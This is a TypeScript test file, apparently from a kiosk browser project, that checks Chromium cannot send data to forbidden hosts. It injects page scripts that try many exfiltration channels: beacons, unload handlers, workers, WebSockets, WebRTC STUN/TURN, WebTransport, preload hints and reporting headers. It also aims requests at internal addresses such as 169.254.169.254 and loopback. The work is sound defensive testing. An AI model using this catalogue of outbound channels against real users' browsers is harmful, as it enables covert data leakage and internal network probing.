import { chmodSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { publicAddressBy, type Resolve } from '#host/egress/addresses.ts'
import { few } from '#test/few.ts'
import { type Canary, startCanary } from '#test/sites/canary.ts'
import { answerAt, companionHost, labHost, pageAt, scriptAt } from '#test/sites/lab.ts'
import { forbiddenUrl, gardenUrl, hosts, storiesUrl } from '#test/sites/neighbourhood.ts'
import { breakoutRoom, graceMs } from './breakout-room.ts'
import { pause } from './chromium-row.ts'

const notes = mkdtempSync(join(tmpdir(), 'netlog-'))
// The browser runs as another account.
chmodSync(notes, 0o777)
const netLog = join(notes, 'net.json')

describe('C11 Network side channels, in Chromium', () => {
  let otherAddress: Resolve | null = null
  const room = breakoutRoom({ flags: [`--log-net-log=${netLog}`] }, (sites) => ({
    ...sites,
    resolve: (host, port) => (otherAddress && host === hosts.stories ? otherAddress(host, port) : sites.resolve(host, port)),
  }))
  /** Where 443 of this machine would answer: an address that no name may lead to. */
  let inside: Canary | null = null
  beforeAll(async () => {
    inside = await startCanary('127.83.7.1', 443).catch(() => null)
  })
  afterAll(async () => {
    await inside?.stop()
    rmSync(notes, { recursive: true, force: true })
  })

  /** Everybody whom the page may not speak to. */
  const strangers = (): string[] => [
    forbiddenUrl,
    `http://${hosts.forbidden}/`,
    `https://${room.canary.host}:${room.canary.tcp}/`,
    `http://${room.canary.host}:${room.canary.tcp}/`,
    `http://localhost:${room.canary.tcp}/`,
    `http://[::ffff:127.0.0.1]:${room.canary.tcp}/`,
    `https://${hosts.garden}:${room.canary.tcp}/`,
  ]
  /** Runs `script`, in which `urls` is everybody of the kind, and waits a moment. */
  async function attempt(script: string, urls = strangers()): Promise<void> {
    await room.kiosk.inPage(`void (async () => { const urls = ${JSON.stringify(urls)}; ${script} })().catch(() => {})`)
    await pause(graceMs)
  }
  const asked = (part: string): number => room.kiosk.asked.filter((request) => request.url.includes(part)).length

  const ways: Readonly<Record<string, string>> = {
    fetch: `fetch(url, { mode: 'no-cors' }).catch(() => {})`,
    keepalive: `fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'words' }).catch(() => {})`,
    request: `{ const x = new XMLHttpRequest(); x.open('GET', url); x.send() }`,
    beacon: `navigator.sendBeacon(url, 'words')`,
    events: `new EventSource(url)`,
    picture: `new Image().src = url`,
    style: `document.body.insertAdjacentHTML('beforeend', '<p style="background-image:url(' + url + ')">p')`,
    script: `document.body.append(Object.assign(document.createElement('script'), { src: url }))`,
    sheet: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }))`,
    film: `document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' }))`,
    sound: `new Audio(url).load()`,
    subtitle: `document.body.insertAdjacentHTML('beforeend', '<video><track default src="' + url + '"></video>')`,
    typeface: `new FontFace('f', 'url(' + url + ')').load().catch(() => {})`,
    module: `import(url).catch(() => {})`,
    drawing: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + url + '"/><use href="' + url + '#a"/></svg>')`,
  }
  test('B101 nothing leaves for a stranger by any of fifteen ways to load something', async () => {
    await room.kiosk.visit(gardenUrl)
    for (const [way, script] of Object.entries(ways)) {
      await room.kiosk.inPage(
        `for (const one of ${JSON.stringify(strangers())}) { const url = one + '?way-${way}'; try { ${script} } catch {} }`,
      )
    }
    // A subtitle is refused by the engine itself, being of another origin.
    const expected = Object.keys(ways).filter((way) => way !== 'subtitle')
    await room.kiosk.eventually('each way was asked about', () => expected.every((way) => asked(`way-${way}`) > 0))
    await pause(graceMs)
  })

  test('B101 what a page sends while it goes away does not leave either', async () => {
    await room.kiosk.visit(gardenUrl)
    await attempt(`for (const kind of ['pagehide', 'unload', 'beforeunload', 'visibilitychange']) addEventListener(kind, () => {
      for (const url of urls) { navigator.sendBeacon(url, 'words'); fetch(url, { mode: 'no-cors', keepalive: true }).catch(() => {}) } })`)
    await room.kiosk.shell.steerPage(storiesUrl)
    await room.kiosk.until((event) => event.kind === 'committed' && event.url === storiesUrl)
    await room.kiosk.shell.closePage()
  })

  test('B101 an approved address that passes a request on passes it to nobody', async () => {
    await room.kiosk.visit(pageAt('lab'))
    const passedOn = answerAt('', { status: 302, headers: { Location: forbiddenUrl } })
    await attempt(`for (const mode of ['no-cors', 'cors']) fetch(urls[0], { mode }).catch(() => {}); new Image().src = urls[0]`, [passedOn])
    expect(asked(`https://${hosts.forbidden}/`)).toBeGreaterThan(0)
  })

  const workers: readonly (readonly [string, (source: string) => string])[] = [
    ['the page', (source) => source],
    ['a worker', (source) => `new Worker(${JSON.stringify(scriptAt(source))})`],
    ['a worker made of a blob', (source) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}])))`],
    ['a worker of a worker', (source) => `new Worker(${JSON.stringify(scriptAt(`new Worker(${JSON.stringify(scriptAt(source))})`))})`],
    ['a shared worker', (source) => `new SharedWorker(${JSON.stringify(scriptAt(source))})`],
    ['a service worker', (source) => `await navigator.serviceWorker.register(${JSON.stringify(scriptAt(source))}, { scope: '/play/' })`],
    [
      'a frame without an address',
      (source) =>
        `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: ${JSON.stringify(`<script>${source}</script>`)} }))`,
    ],
    [
      'a frame in a sandbox',
      (source) =>
        `{ const f = Object.assign(document.createElement('iframe'), { srcdoc: ${JSON.stringify(`<script>${source}</script>`)} }); f.sandbox = 'allow-scripts'; document.body.append(f) }`,
    ],
  ]
  const sockets = (): string[] => [
    `wss://${hosts.forbidden}/`,
    `ws://${hosts.forbidden}/`,
    `ws://${room.canary.host}:${room.canary.tcp}/`,
    `wss://${room.canary.host}:${room.canary.tcp}/`,
    `ws://localhost:${room.canary.tcp}/`,
    `wss://${hosts.garden}:${room.canary.tcp}/`,
  ]
  test.each(few(workers, 3))('B101 B102 nothing leaves for a stranger from %s, and no web socket', async (_, from) => {
    await room.kiosk.visit(pageAt('lab'))
    const source = `
      const say = (word) => fetch('https://${labHost}/play/' + word, { mode: 'no-cors' }).catch(() => {})
      for (const url of ${JSON.stringify(strangers())}) { fetch(url, { mode: 'no-cors' }).catch(() => {}); try { importScripts(url) } catch {} }
      for (const url of ${JSON.stringify(sockets())}) {
        try { const s = new WebSocket(url); s.onopen = () => say('socket-opened'); s.onclose = () => say('socket-closed') } catch { say('socket-closed') }
        try { new WebSocketStream(url).opened.then(() => say('socket-opened'), () => {}) } catch {}
      }`
    await attempt(from(source))
    await room.kiosk.eventually('a socket was tried', () => asked('/play/socket-closed') > 0)
    await room.kiosk.eventually('a stranger was asked for', () => asked(`https://${hosts.forbidden}/`) > 0)
    expect(asked('/play/socket-opened')).toBe(0)
  })

  const stun = (): string => `for (const at of ['stun:${room.canary.host}:${room.canary.udp}', 'stun:localhost:${room.canary.udp}']) {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: at }, { urls: at.replace('stun', 'turn'), username: 'u', credential: 'c' }, { urls: 'turn:${room.canary.host}:${room.canary.tcp}?transport=tcp', username: 'u', credential: 'c' }] })
    connection.createDataChannel('c')
    await connection.setLocalDescription(await connection.createOffer())
  }`
  test('B103 no packet of WebRTC leaves, and a fresh frame does not bring it back', async () => {
    await room.kiosk.visit(pageAt('lab'))
    expect(await room.kiosk.inPage('typeof RTCPeerConnection')).toBe('undefined')
    await attempt(stun())
    await attempt(
      `const RTCPeerConnection = document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection; ${stun()}`,
    )
    await attempt(
      `const f = Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(pageAt('<script>(async () => { ', { host: companionHost }))} + encodeURIComponent(${JSON.stringify(`${stun()} })()</script>`)}) }); document.body.append(f)`,
    )
    await pause(graceMs)
  })
  test('B103 the flags alone keep WebRTC from sending a packet', async () => {
    await room.kiosk.visit(pageAt('lab'))
    const { pipe, page } = room.kiosk.shell.run ?? {}
    if (!pipe || !page) throw new Error('no page')
    // A world of its own, from which nothing was taken away.
    const { executionContextId } = await pipe.send('Page.createIsolatedWorld', { frameId: page.targetId, worldName: 'bare' }, page.session)
    const answer = await pipe.send(
      'Runtime.evaluate',
      {
        contextId: executionContextId,
        expression: `(async () => { ${stun()}; return typeof RTCPeerConnection })()`,
        awaitPromise: true,
        returnByValue: true,
      },
      page.session,
    )
    expect(answer.result.value).toBe('function')
    await pause(1_500)
  })
  test('B103 no packet of WebTransport leaves, from a page or a worker', async () => {
    await room.kiosk.visit(pageAt('lab'))
    const source = `for (const url of ['https://${room.canary.host}:${room.canary.udp}/', '${forbiddenUrl}']) {
      try { const t = new WebTransport(url); t.ready.catch(() => {}); t.closed.catch(() => {}) } catch {}
    }`
    await attempt(source)
    await attempt(`new Worker(${JSON.stringify(scriptAt(source))})`)
    await pause(graceMs)
  })

  test('B104 no hint of a page or a header makes the browser speak to a stranger', async () => {
    const stranger = `https://${hosts.forbidden}/hint`
    const local = `https://${room.canary.host}:${room.canary.tcp}`
    const headers = {
      Link: `<${stranger}>; rel=preconnect, <${local}>; rel=preconnect, <${stranger}>; rel=preload; as=script, <${local}>; rel=dns-prefetch, <${stranger}>; rel=compression-dictionary`,
      'Report-To': JSON.stringify({ group: 'default', max_age: 9_999, endpoints: [{ url: stranger }, { url: local }] }),
      'Reporting-Endpoints': `default="${stranger}", local="${local}"`,
      NEL: JSON.stringify({ report_to: 'default', max_age: 9_999, success_fraction: 1, failure_fraction: 1 }),
      'Content-Security-Policy': `script-src 'self' 'unsafe-inline' 'unsafe-eval'; report-uri ${stranger}; report-to default`,
      'Content-Security-Policy-Report-Only': `default-src 'none'; report-uri ${stranger} ${local}; report-to local`,
      'Speculation-Rules': `"${stranger}"`,
      'Alt-Svc': `h3="${room.canary.host}:${room.canary.udp}"; ma=9999`,
      SourceMap: stranger,
    }
    await room.kiosk.visit(pageAt('lab', { headers }))
    await attempt(`
      for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'apple-touch-icon', 'manifest', 'next', 'search', 'pingback'])
        for (const href of ['${stranger}', '${local}/'])
          document.head.append(Object.assign(document.createElement('link'), { rel, href, as: 'script', crossOrigin: 'anonymous' }))
      const rules = document.createElement('script')
      rules.type = 'speculationrules'
      rules.textContent = JSON.stringify({ prefetch: [{ urls: ['${stranger}', '${local}/'], eagerness: 'immediate' }], prerender: [{ urls: ['${stranger}'], eagerness: 'immediate' }] })
      document.head.append(rules)
      try { eval('1') } catch {}
      document.body.append(Object.assign(document.createElement('script'), { src: '${stranger}' }))
      document.body.append(Object.assign(document.createElement('textarea'), { spellcheck: true, value: 'mispeled wurds', autofocus: true }))`)
    await pause(1_200)
    // Frames and reports of a crash of the page itself.
    await room.kiosk.page.crash()
    await room.kiosk.until((event) => event.kind === 'crashed')
    await pause(graceMs)
  })

  test('B105 an approved name that leads to this machine or into the school’s network is nowhere', async () => {
    for (const addresses of [
      ['127.83.7.1'],
      ['10.1.2.3'],
      ['192.168.1.1'],
      ['169.254.169.254'],
      ['::ffff:127.83.7.1'],
      ['::1'],
      ['203.0.113.9', '127.83.7.1'],
    ]) {
      otherAddress = publicAddressBy(async () => addresses.map((address) => ({ address })))
      const before = room.kiosk.events.length
      await room.kiosk.shell.openPage(storiesUrl)
      await room.kiosk.eventually(addresses.join(), () =>
        room.kiosk.events.slice(before).some((event) => event.kind === 'failed' && event.fault === 'offline'),
      )
    }
    otherAddress = null
    expect(inside?.heard ?? []).toEqual([])
  })

  test('B105 a name that moves inside in the middle of a session is asked for anew, and is nowhere', async () => {
    if (!inside) return expect.fail('port 443 of 127.83.7.1 cannot be had on this machine')
    let times = 0
    await room.kiosk.visit(storiesUrl)
    otherAddress = publicAddressBy(async () => {
      times += 1
      return [{ address: '127.83.7.1' }]
    })
    // Connections that are open already go on as they were; each new one is asked about.
    await room.kiosk.inPage(`void Promise.all(Array.from({ length: 40 }, (_, n) => fetch('/' + n, { cache: 'no-store' }).catch(() => {})))`)
    await room.kiosk.inPage(`void new WebSocket('wss://${hosts.stories}/')`)
    await room.kiosk.eventually('the name is looked up anew', () => times > 0)
    await pause(graceMs)
    otherAddress = null
    expect(inside.heard).toEqual([])
    inside.forgetHeard()
  })

  test.each(few(['link', 'script', 'form', 'redirect']))('B106 a way down to http by %s is never taken', async (way) => {
    // Chromium asks by https first; where nobody answers there, it would go on without.
    const plain = `http://${hosts.unreachable}/`
    const plainRequests = (): number => room.kiosk.notes.filter((note) => note === 'egress-refused').length
    await room.kiosk.visit(pageAt('lab'))
    const before = plainRequests()
    if (way === 'link') await room.kiosk.page.clickLink(plain)
    if (way === 'script') await room.kiosk.page.goByScript(plain)
    if (way === 'form')
      await room.kiosk.inPage(
        `{ const f = Object.assign(document.createElement('form'), { method: 'post', action: '${plain}' }); document.body.append(f); f.submit() }`,
      )
    if (way === 'redirect') await room.kiosk.page.goByScript(answerAt('', { status: 302, headers: { Location: plain } }))
    await room.kiosk.eventually('it is refused, or nowhere', () =>
      room.kiosk.events.some((event) => (event.kind === 'refused' && event.code === 'not-https') || event.kind === 'failed'),
    )
    await pause(graceMs)
    expect(plainRequests()).toBe(before)
    expect(room.kiosk.events.some((event) => event.kind === 'committed' && event.url.startsWith('http:'))).toBe(false)
  })

  test('B106 a portal that answers in the place of a site is not shown', async () => {
    const address = await room.sites.resolve(hosts.stranger, 443)
    otherAddress = async () => address
    // By its wrong certificate, and by the address that it sends everybody on to.
    await room.kiosk.shell.openPage(`https://${hosts.stranger}/`)
    expect(await room.kiosk.until((event) => event.kind === 'failed')).toMatchObject({ fault: 'certificate' })
    otherAddress = null
    await room.kiosk.afresh()
    await room.kiosk.shell.openPage(answerAt('', { status: 302, headers: { Location: 'http://login.portal.example/' } }))
    await room.refused({ redirect: true, url: 'http://login.portal.example/' })
    expect(await room.kiosk.screen.middle()).toBe('main')
  })

  // Last: it reads all that the browser wrote down about its connections.
  test('B104 in all this the browser looked up no name and opened no connection but to our own way out', async () => {
    const flags = readFileSync(`/proc/${room.kiosk.shell.run?.pid}/cmdline`, 'utf8')
    const proxy = /--proxy-server=([^\0 ]+)/.exec(flags)?.[1]
    await room.kiosk.shell.openPage(gardenUrl)
    await room.kiosk.until((event) => event.kind === 'ready')
    await pause(300)
    // One event to a line; the last one may be half written.
    const lines = readFileSync(netLog, 'utf8').split('\n')
    const { logEventTypes } = (
      JSON.parse(`${(lines[0] ?? '').replace(/,$/, '')}}`) as { constants: { logEventTypes: Record<string, number> } }
    ).constants
    const events = lines.slice(2).flatMap((line): { type: number; params?: { address?: string } }[] => {
      try {
        return [JSON.parse(line.replace(/(,|\]|\],)\s*$/, ''))]
      } catch {
        return []
      }
    })
    expect(events.length).toBeGreaterThan(1_000)
    const of = (name: string) => events.filter((event) => event.type === logEventTypes[name])
    const connections = new Set(of('TCP_CONNECT_ATTEMPT').flatMap((event) => event.params?.address ?? []))
    expect([...connections]).toEqual([proxy])
    // It asks the kernel for a route to see whether there is IPv6; no packet is sent for that.
    expect(of('UDP_BYTES_SENT')).toEqual([])
    for (const task of ['HOST_RESOLVER_DNS_TASK', 'HOST_RESOLVER_SYSTEM_TASK', 'DNS_TRANSACTION']) expect(of(task)).toEqual([])
  })

  test.skip('B107 comments, chat and adverts of a listed site (skipped: judged by the content guard and the review of lists, not by the shell)', () => {})
  test.skip('B108 content that cannot be read for sure (skipped: judged by the content guard, test/core/guard)', () => {})
})
